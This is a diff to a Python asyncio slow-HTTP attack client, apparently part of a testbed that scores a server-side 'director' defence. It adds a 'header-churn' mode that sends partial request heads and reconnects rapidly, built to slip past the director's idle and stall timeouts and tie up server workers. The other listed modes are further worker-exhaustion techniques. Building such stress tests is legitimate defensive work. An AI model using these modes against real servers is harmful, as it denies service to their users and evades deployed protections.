@@ -13,6 +13,9 @@ real servers' workers the ways the scoring does not want:
                from a raw socket reading this namespace's incoming segments (its own traffic).
   idle-hold    a complete request, its response read, then the keep-alive connection held idle
                with one byte (CRLF, which servers skip between requests) every --interval-s
+  header-churn a partial request head, then silence for --interval-s (jittered +-30%), then a FIN,
+               and at once the next connection: every head dropped before the director's idle
+               step or stall grace can sink it, the worker held by a stream of fresh connections
   slow-read    a complete request for a large response (/big), read --read-bytes at a time every
                --interval-s through a receive buffer made as small as the kernel allows
                (SO_RCVBUF): the buffer stays full, so the kernel advertises a zero window, and the
@@ -80,7 +83,7 @@ async def main() -> int:
     ap.add_argument("--port", type=int, default=80)
     ap.add_argument("--addrs", required=True)
     ap.add_argument("--per", type=int, default=4)
-    ap.add_argument("--mode", choices=("slow-header", "slow-forged", "idle-hold", "slow-read"), required=True)
+    ap.add_argument("--mode", choices=("slow-header", "slow-forged", "idle-hold", "header-churn", "slow-read"), required=True)
     ap.add_argument("--read-bytes", type=int, default=64)
     ap.add_argument("--interval-s", type=float, default=3.0)
     ap.add_argument("--user-timeout-ms", type=int, default=4000)
@@ -175,6 +178,15 @@ async def main() -> int:
                     writer.write(b"GET /?bot=%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n" % seq_no)
                     await writer.drain()
                     trickle = None
+                if args.mode == "header-churn":
+                    # Silence (noticing the server closing or an RST meanwhile), then a FIN.
+                    try:
+                        await asyncio.wait_for(reader.read(4096), jitter())
+                    except asyncio.TimeoutError:
+                        pass
+                    writer.close()
+                    writer = None
+                    continue
                 k = 0
                 forged = 0
                 while not stopping.is_set():
@@ -211,7 +223,7 @@ async def main() -> int:
                     stats["connecting"] -= 1
                 if writer is not None:
                     writer.transport.abort()
-            if not stopping.is_set():
+            if not stopping.is_set() and args.mode != "header-churn":
                 await asyncio.sleep(0.2)
 
     async def report() -> None:
